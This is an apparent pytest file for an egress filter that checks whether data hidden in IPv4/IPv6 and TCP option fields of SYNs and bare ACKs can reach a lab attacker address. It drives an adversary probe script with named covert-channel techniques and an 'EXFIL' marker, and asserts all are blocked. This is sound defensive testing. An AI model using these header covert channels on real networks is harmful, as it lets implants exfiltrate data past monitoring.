"""Issue 9, class 9: `unknown_ip = verify` lets SYNs and bare ACKs carry data in headers.

In verify mode a SYN to any address passes: the flow is decided at its first
payload. An implant that never sends payload still reaches its collector with
every packet that passes before that: data in IPv4 options, IPv6 extension
headers and TCP options of SYNs and bare ACKs (adversary/covert.py). The
collector here is a header recorder in the fake internet (adversary/hdrsniff.py)
on the attacker's addresses: the marker must never appear in a packet that
reached it. The control probe (the options Linux sends) must still pass, so a
green run means the recorder works and verify mode still lets a plain SYN out.
"""
import json
import os

import pytest

import lab as L

ADV = os.path.dirname(os.path.abspath(__file__))
PROBES4 = ["ipopt_syn", "ipopt_ack", "tcpopt_syn", "tcpopt_ack", "tfo_cookie", "eol_tail",
           "rr_socket"]
PROBES6 = ["tcpopt_syn", "tcpopt_ack", "tfo_cookie", "eol_tail", "v6_dstopt"]


class Recorder:
    def __init__(self, lab, *addrs):
        self.path = os.path.join(lab.dir, "hdrsniff.%d.json" % len(lab.procs))
        args = [L.PY, os.path.join(ADV, "hdrsniff.py"), "--record", self.path,
                "--max-seconds", "90"]
        for a in addrs:
            args += ["--watch", a]
        self.proc = lab.spawn(lab.net, args, stderr=self.path + ".stderr")

        def ready():
            if self.proc.poll() is not None:
                raise L.LabError("hdrsniff.py exited: " + open(self.path + ".stderr").read())
            return os.path.exists(self.path)
        L.wait_for(ready, 5, "the header recorder to start")

    def stop(self):
        self.proc.terminate()
        self.proc.wait(5)
        with open(self.path) as f:
            return json.load(f)["packets"]


def probe(lab, dst, name, marker):
    p = lab.ns_run(lab.cli, [L.PY, os.path.join(ADV, "covert.py"), "--dst", dst, "--probe",
                             name, "--marker", marker.hex(), "--timeout", "1.5"], timeout=15)
    try:
        return json.loads(p.stdout)
    except ValueError:
        raise L.LabError("covert.py printed no JSON (%s): %s%s" % (p.returncode, p.stdout,
                                                                  p.stderr))


@pytest.mark.parametrize("fam", ["4", "6"])
def test_headers_of_undecided_flows_carry_nothing(anylab, fam):
    e = anylab.start_egressd(unknown_ip="verify")
    dst = L.ATTACKER4 if fam == "4" else L.ATTACKER6
    marker = b"EXFIL" + os.urandom(7)
    rec = Recorder(anylab, dst)
    try:
        control = probe(anylab, dst, "plain", marker)
        results = {n: probe(anylab, dst, n, marker) for n in (PROBES4 if fam == "4" else PROBES6)}
    finally:
        packets = rec.stop()
    # Positive control: verify mode passes a plain SYN and its ACK, and the recorder saw them.
    assert control["synack"], control
    seen = [p for p in packets if p["sport"] == control["sport"]]
    assert any(p["flags"] & 0x02 for p in seen), (control, packets[:5])
    assert any(p["flags"] == 0x10 for p in seen), (control, seen)
    leaked = [p for p in packets if marker.hex() in p["hex"]]
    assert not leaked, "marker reached the attacker: %s (probes %s)" % (
        json.dumps(leaked[:4]), json.dumps(results))
    # Every marker probe was denied with a named reason, and logged.
    denied = [x for x in e.events("deny") if x.get("dst") == dst]
    details = {x.get("detail") for x in denied}
    assert denied and all(x.get("reason") == "malformed" for x in denied), denied
    assert None not in details, denied
    anylab.assert_attacker_got_nothing()
